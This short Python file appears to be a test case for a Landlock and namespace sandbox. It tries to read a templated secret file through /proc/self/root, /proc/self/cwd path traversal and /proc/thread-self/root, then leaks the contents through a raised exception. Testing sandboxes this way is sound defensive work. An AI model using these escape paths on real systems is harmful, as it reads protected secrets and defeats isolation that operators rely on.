"""Reach the key through /proc/self/root and /proc/self/cwd."""

WANTS = "the secret key"
LAYER = ("landlock", "namespaces")
PROVE = True
UNIT = "knowledge_check"

found = ""
for prefix in ("/proc/self/root", "/proc/self/cwd/" + "../" * 20, "/proc/thread-self/root"):
    try:
        with open(prefix + "@SECRET_FILE@") as file:
            found += file.read()
    except OSError:
        pass
raise RuntimeError(found)
